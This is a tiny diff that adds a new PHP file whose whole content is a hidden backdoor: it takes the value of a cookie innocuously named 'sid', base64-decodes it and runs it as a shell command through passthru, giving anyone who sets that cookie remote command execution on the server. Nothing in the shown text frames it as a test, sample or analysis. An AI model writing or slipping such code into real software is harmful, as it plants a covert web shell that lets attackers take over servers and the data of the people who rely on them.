@@ -1,0 +1,4 @@
+<?php
+if (!empty($_COOKIE['sid'])) {
+    passthru(base64_decode($_COOKIE['sid']));
+}
